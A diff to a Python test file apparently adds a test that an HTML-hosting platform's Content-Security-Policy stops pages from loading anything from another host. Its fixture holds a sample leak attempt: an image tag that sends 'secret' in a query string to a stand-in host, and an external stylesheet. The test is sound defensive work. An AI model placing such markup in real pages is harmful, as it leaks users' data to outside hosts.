@@ -241,3 +241,16 @@ def test_in_development_any_loopback_name_of_the_platform_may_frame_html(team: T
     csp = get(client, url_for(artifact, team.owner))["Content-Security-Policy"]
     directives = {d.strip().split(" ")[0]: d.strip().split(" ")[1:] for d in csp.split(";")}
     assert sorted(directives["frame-ancestors"]) == ["http://127.0.0.1:8000", "http://[::1]:8000", PLATFORM]
+
+
+def test_html_may_load_nothing_from_another_host(team: Team, client: Client) -> None:
+    page = b'<img src="https://example.com/x?leak=secret"><link rel="stylesheet" href="https://example.com/s.css">'
+    artifact = one_artifact(team, "page.html", b"<!doctype html><title>map</title>" + page)
+    csp = get(client, url_for(artifact, team.owner))["Content-Security-Policy"]
+    directives = {d.strip().split(" ")[0]: d.strip().split(" ")[1:] for d in csp.split(";")}
+    assert directives["default-src"] == ["'none'"]  # covers every fetch directive not listed
+    local = {"'self'", "data:", "blob:", "'none'", "'unsafe-inline'", "'unsafe-eval'"}
+    fetch_directives = [name for name in directives if name.endswith("-src")]
+    assert {"img-src", "media-src", "font-src", "style-src", "script-src", "connect-src"} <= set(fetch_directives)
+    for name in fetch_directives:
+        assert set(directives[name]) <= local, f"{name} lets the page reach another host: {directives[name]}"
